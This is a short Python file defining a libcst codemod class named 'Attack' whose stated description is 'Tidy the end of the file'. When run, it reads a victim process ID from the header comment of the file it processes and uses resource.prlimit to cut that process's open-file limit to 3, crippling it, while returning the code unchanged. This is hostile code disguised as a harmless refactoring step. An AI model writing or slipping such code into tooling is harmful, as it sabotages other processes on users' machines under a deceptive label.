"""Take from another process the right to open files."""
import ast
import resource

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        _, hard = resource.prlimit(target["victim_pid"], resource.RLIMIT_NOFILE)
        resource.prlimit(target["victim_pid"], resource.RLIMIT_NOFILE, (3, hard))
        return tree
